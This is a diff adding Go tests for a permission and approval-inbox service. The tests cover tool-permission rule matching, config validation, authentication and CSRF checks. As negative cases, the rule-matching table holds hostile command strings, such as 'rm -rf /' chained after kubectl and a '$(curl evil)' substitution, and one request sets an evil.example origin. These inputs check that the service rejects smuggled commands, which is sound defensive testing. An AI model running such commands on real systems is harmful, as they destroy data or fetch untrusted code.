@@ -1,0 +1,172 @@
+package inbox
+
+import (
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+
+	"github.com/prometheus/client_golang/prometheus"
+
+	"github.com/wardenhq/warden/client"
+	"github.com/wardenhq/warden/permission"
+)
+
+func TestCovers(t *testing.T) {
+	var rules []permission.Rule
+	for _, s := range []string{"Bash(kubectl:*)", "Write", "Edit(/srv/app/*)"} {
+		r, err := permission.ParseRule(s, permission.Allow)
+		if err != nil {
+			t.Fatal(err)
+		}
+		rules = append(rules, r)
+	}
+	tests := []struct {
+		tool, input string
+		want        bool
+	}{
+		{"Bash", `{"command":"kubectl get pods"}`, true},
+		{"Bash", `{"command":"kubectl get pods | grep web"}`, true},
+		{"Bash", `{"command":"kubectl delete ns x && rm -rf /"}`, false},
+		{"Bash", `{"command":"kubectlx"}`, false},
+		{"Bash", `{"command":"touch x"}`, false},
+		{"Bash", `{"command":"kubectl $(curl evil)"}`, false},
+		{"Write", `{"file_path":"/etc/passwd","content":"x"}`, true},
+		{"Edit", `{"file_path":"/srv/app/main.go"}`, true},
+		{"Edit", `{"file_path":"/etc/hosts"}`, false},
+		{"Read", `{"file_path":"/srv/app/main.go"}`, false},
+	}
+	for _, tt := range tests {
+		if got := covers(rules, tt.tool, json.RawMessage(tt.input)); got != tt.want {
+			t.Errorf("covers(%s %s) = %v, want %v", tt.tool, tt.input, got, tt.want)
+		}
+	}
+}
+
+func newTestServer(t *testing.T) *Server {
+	t.Helper()
+	s, err := New(Config{
+		Client:     client.New(nil, "unused"),
+		Users:      map[string]User{"alice": {Token: "tok-a", Password: "pw-a"}, "kube": {Token: "tok-k", Roles: []string{"k8s"}}},
+		Roles:      map[string]Role{"k8s": {Allow: []string{"Bash(kubectl:*)"}}},
+		Registerer: prometheus.NewRegistry(),
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return s
+}
+
+func TestNewValidates(t *testing.T) {
+	cl := client.New(nil, "unused")
+	tests := []struct {
+		name string
+		cfg  Config
+		want string
+	}{
+		{"no client", Config{Users: map[string]User{"a": {Token: "t"}}}, "no warden client"},
+		{"no users", Config{Client: cl}, "no users"},
+		{"no credentials", Config{Client: cl, Users: map[string]User{"a": {}}}, "neither a token nor a password"},
+		{"unknown role", Config{Client: cl, Users: map[string]User{"a": {Token: "t", Roles: []string{"x"}}}}, "unknown role"},
+		{"bad rule", Config{Client: cl, Users: map[string]User{"a": {Token: "t", Roles: []string{"x"}}}, Roles: map[string]Role{"x": {Allow: []string{"Bash("}}}}, "role \"x\""},
+		{"half TLS", Config{Client: cl, Users: map[string]User{"a": {Token: "t"}}, TLSCert: "c.pem"}, "TLS"},
+	}
+	for _, tt := range tests {
+		if _, err := New(tt.cfg); err == nil || !strings.Contains(err.Error(), tt.want) {
+			t.Errorf("%s: New error = %v, want %q", tt.name, err, tt.want)
+		}
+	}
+	s, err := New(Config{Client: cl, Users: map[string]User{"a": {Token: "t"}}})
+	if err != nil || s.Addr() != DefaultListen {
+		t.Errorf("defaults: %v %q", err, s.Addr())
+	}
+}
+
+func TestAuthentication(t *testing.T) {
+	s := newTestServer(t)
+	tests := []struct {
+		name   string
+		req    func() *http.Request
+		status int
+	}{
+		{"none", func() *http.Request { return httptest.NewRequest("GET", "/static/app.css", nil) }, 401},
+		{"bad bearer", func() *http.Request {
+			r := httptest.NewRequest("GET", "/static/app.css", nil)
+			r.Header.Set("Authorization", "Bearer nope")
+			return r
+		}, 401},
+		{"bearer", func() *http.Request {
+			r := httptest.NewRequest("GET", "/static/app.css", nil)
+			r.Header.Set("Authorization", "Bearer tok-k")
+			return r
+		}, 200},
+		{"basic", func() *http.Request {
+			r := httptest.NewRequest("GET", "/static/app.css", nil)
+			r.SetBasicAuth("alice", "pw-a")
+			return r
+		}, 200},
+		{"basic wrong password", func() *http.Request {
+			r := httptest.NewRequest("GET", "/static/app.css", nil)
+			r.SetBasicAuth("alice", "pw-k")
+			return r
+		}, 401},
+		{"basic user without password", func() *http.Request {
+			r := httptest.NewRequest("GET", "/static/app.css", nil)
+			r.SetBasicAuth("kube", "")
+			return r
+		}, 401},
+		{"token link", func() *http.Request { return httptest.NewRequest("GET", "/?token=tok-a&order=newest", nil) }, 303},
+		{"cookie", func() *http.Request {
+			r := httptest.NewRequest("GET", "/static/app.js", nil)
+			r.AddCookie(&http.Cookie{Name: cookieName, Value: "tok-a"})
+			return r
+		}, 200},
+		{"post without CSRF header", func() *http.Request {
+			r := httptest.NewRequest("POST", "/api/approve", strings.NewReader(`{}`))
+			r.Header.Set("Authorization", "Bearer tok-a")
+			r.Header.Set("Content-Type", "application/json")
+			return r
+		}, 403},
+		{"cross-origin post", func() *http.Request {
+			r := httptest.NewRequest("POST", "/api/deny", strings.NewReader(`{}`))
+			r.Header.Set("Authorization", "Bearer tok-a")
+			r.Header.Set("Content-Type", "application/json")
+			r.Header.Set(csrfHeader, "1")
+			r.Header.Set("Origin", "https://evil.example")
+			return r
+		}, 403},
+		{"form post", func() *http.Request {
+			r := httptest.NewRequest("POST", "/api/deny", strings.NewReader(`a=b`))
+			r.Header.Set("Authorization", "Bearer tok-a")
+			r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+			r.Header.Set(csrfHeader, "1")
+			return r
+		}, 415},
+		{"missing ids", func() *http.Request {
+			r := httptest.NewRequest("POST", "/api/deny", strings.NewReader(`{}`))
+			r.Header.Set("Authorization", "Bearer tok-a")
+			r.Header.Set("Content-Type", "application/json")
+			r.Header.Set(csrfHeader, "1")
+			return r
+		}, 400},
+	}
+	for _, tt := range tests {
+		w := httptest.NewRecorder()
+		s.ServeHTTP(w, tt.req())
+		if w.Code != tt.status {
+			t.Errorf("%s: status %d, want %d (%s)", tt.name, w.Code, tt.status, w.Body.String())
+		}
+		if tt.status == 401 && !strings.HasPrefix(w.Header().Get("WWW-Authenticate"), "Basic ") {
+			t.Errorf("%s: no basic challenge", tt.name)
+		}
+		if tt.name == "token link" {
+			if loc := w.Header().Get("Location"); loc != "/?order=newest" {
+				t.Errorf("token link redirects to %q", loc)
+			}
+			if c := w.Result().Cookies(); len(c) != 1 || c[0].Value != "tok-a" || !c[0].HttpOnly {
+				t.Errorf("token link cookies = %+v", c)
+			}
+		}
+	}
+}
